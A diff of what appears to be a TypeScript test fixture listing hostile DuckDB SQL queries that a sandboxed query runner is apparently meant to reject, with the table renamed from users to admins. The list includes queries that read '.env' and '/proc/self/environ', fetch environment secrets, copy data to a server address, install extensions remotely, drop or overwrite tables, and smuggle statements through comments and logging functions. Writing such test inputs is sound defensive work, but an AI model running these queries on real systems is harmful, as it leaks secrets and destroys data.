@@ -1,20 +1,20 @@
 /**
- * SQL that somebody else wrote and that means harm. `folder` has `.env` with a secret and the data directory `data`;
- * `server` is an address on loopback where nobody should ask for anything.
+ * SQL that somebody else wrote and that means harm. `folder` has `.env` with a secret and the data directory `data`, of
+ * administrators; `server` is an address on loopback where nobody should ask for anything.
  */
 export const hostile = (folder: string, server: string): ReadonlyArray<string> => {
   const parquet = `${folder}/data/parquet`
-  const copy = `COPY (SELECT username FROM users) TO '${folder}/out'`
+  const copy = `COPY (SELECT name FROM admins) TO '${folder}/out'`
   return [
     // writes
     copy,
-    `COPY users TO '${folder}/out.csv'`,
+    `COPY admins TO '${folder}/out.csv'`,
     `COPY (SELECT 1) TO '${folder}/.env' (FORMAT csv)`,
     `COPY (SELECT 1) TO '${folder}/data/duo.duckdb' (FORMAT parquet)`,
     `COPY (SELECT 1) TO '${parquet}/views.sql' (FORMAT csv, HEADER false)`,
-    `COPY (SELECT 1 AS a) TO '${parquet}/users' (FORMAT parquet, PARTITION_BY (a), OVERWRITE)`,
-    "COPY (SELECT username FROM users) TO '/dev/stdout'",
-    "COPY (SELECT username FROM users) TO '/dev/stderr'",
+    `COPY (SELECT 1 AS a) TO '${parquet}/admins' (FORMAT parquet, PARTITION_BY (a), OVERWRITE)`,
+    "COPY (SELECT name FROM admins) TO '/dev/stdout'",
+    "COPY (SELECT name FROM admins) TO '/dev/stderr'",
     `COPY FROM DATABASE memory TO duo`,
     `EXPORT DATABASE '${folder}/export'`,
     `EXPORT DATABASE '${parquet}/export'`,
@@ -23,12 +23,12 @@ export const hostile = (folder: string, server: string): ReadonlyArray<string> =
     "EXPLAIN SELECT 1",
     `ATTACH '${folder}/new.duckdb' AS new`,
     `ATTACH '${parquet}/new.duckdb' AS new`,
-    "INSERT INTO users (username) VALUES ('x')",
+    "INSERT INTO admins (name) VALUES ('x')",
     "UPDATE runs SET complete = true",
     "DELETE FROM runs",
     "DROP TABLE runs",
-    "CREATE TABLE mine AS FROM users",
-    "CREATE OR REPLACE VIEW users AS SELECT 1",
+    "CREATE TABLE mine AS FROM admins",
+    "CREATE OR REPLACE VIEW admins AS SELECT 1",
     "CREATE TEMP TABLE mine AS SELECT 1",
     "CREATE MACRO f() AS 1",
     "CHECKPOINT",
@@ -53,7 +53,7 @@ export const hostile = (folder: string, server: string): ReadonlyArray<string> =
     "FROM glob('/proc/self/*')",
     "FROM read_text('/proc/self/environ')",
     "SELECT getenv('DUO_SKEY')",
-    `SELECT (SELECT content FROM read_text('.env')) AS key, count(*) FROM users`,
+    `SELECT (SELECT content FROM read_text('.env')) AS key, count(*) FROM admins`,
     `WITH a AS (FROM read_text('.env')) SELECT content FROM a`,
     `SET VARIABLE key = (SELECT content FROM read_text('.env')); SELECT getvariable('key')`,
     `IMPORT DATABASE '${folder}'`,
@@ -61,7 +61,7 @@ export const hostile = (folder: string, server: string): ReadonlyArray<string> =
     // the network
     `FROM read_csv('${server}/x.csv')`,
     `FROM '${server}/x.parquet'`,
-    `COPY (SELECT username FROM users) TO '${server}/x.csv'`,
+    `COPY (SELECT name FROM admins) TO '${server}/x.csv'`,
     `ATTACH '${server}/x.duckdb' AS x`,
     "INSTALL httpfs",
     `INSTALL httpfs FROM '${server}'`,
@@ -99,10 +99,10 @@ export const hostile = (folder: string, server: string): ReadonlyArray<string> =
     "PRAGMA enable_profiling",
     "CALL enable_logging(storage = 'stdout')",
     // what neither lock_configuration nor enable_external_access stops: DuckDB's log and profile
-    "SET VARIABLE a = (SELECT count(*) FROM enable_logging(storage = 'stdout')); SELECT count(write_log(username)) FROM users",
+    "SET VARIABLE a = (SELECT count(*) FROM enable_logging(storage = 'stdout')); SELECT count(write_log(name)) FROM admins",
     `SET VARIABLE a = (SELECT count(*) FROM enable_logging(storage = 'file', storage_path = '${parquet}/log')); SELECT 1`,
     `FROM enable_logging('QueryLog', storage = 'file', storage_path = '${parquet}/views.sql')`,
-    "SET VARIABLE a = (SELECT count(*) FROM enable_profiling(format = 'json')); FROM users a JOIN users b USING (username)",
+    "SET VARIABLE a = (SELECT count(*) FROM enable_profiling(format = 'json')); FROM admins a JOIN admins b USING (name)",
     `FROM enable_profiling(save_location = '${parquet}/profile.txt')`,
     "FROM system.main.\"enable_profiling\"()",
     // SQL that is not in the text
@@ -119,7 +119,7 @@ export const hostile = (folder: string, server: string): ReadonlyArray<string> =
     `SELECT 1 -- ;\n; ${copy}`,
     `SELECT 1 /* ; */; /* */ ${copy} --`,
     "BEGIN; SELECT 1; COMMIT",
-    "PIVOT users ON status USING count(*)",
+    "PIVOT admins ON status USING count(*)",
     "",
     "-- SELECT 1",
     // what would break out of a text that it is pasted into
